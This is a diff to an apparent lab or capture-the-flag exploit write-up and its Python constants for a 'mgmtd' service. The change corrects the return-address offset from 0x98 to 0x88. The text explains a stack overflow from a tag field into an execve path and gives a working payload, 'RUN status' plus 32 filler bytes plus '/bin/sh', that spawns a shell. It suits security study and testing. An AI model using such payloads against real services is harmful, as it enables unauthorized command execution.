@@ -22,7 +22,7 @@ The bug: ``run`` keeps ``struct job { char tag[32]; char path[64]; }`` on its st
       call   431020 <__execve>     # execve(job.path, cmd->argv, run_env)
 
 so ``path`` starts 0x20 bytes after ``tag`` (``TAG_TO_PATH``; ``tests/sca/test_services.py``
-re-derives it) and the return address is 0x60 + 5 * 8 = 0x98 bytes after ``tag``, out of reach
+re-derives it) and the return address is 0x60 + 5 * 8 = 0x88 bytes after ``tag``, out of reach
 of a tag that only replaces the path (at most 0x20 + 63 bytes plus its NUL).
 
 The exploit: ``RUN status <32 filler bytes>/bin/sh``. The tag's last bytes land on ``path``,
@@ -48,7 +48,7 @@ PORT = 7070
 TAG_SIZE = 32  # char tag[32]
 PATH_SIZE = 64  # char path[64]
 TAG_TO_PATH = 0x20  # lea 0x20(%rsp),%r14 (path) vs mov %rsp,%r12 (tag)
-TAG_TO_RET = 0x98  # sub $0x60,%rsp + 5 pushes: the return address is beyond the exploit
+TAG_TO_RET = 0x88  # sub $0x60,%rsp + 5 pushes: the return address, beyond the exploit
 COMMANDS = {  # name -> the fixed path execve gets (see mgmtd.c)
     "status": "/bin/uname",
     "uptime": "/usr/bin/uptime",
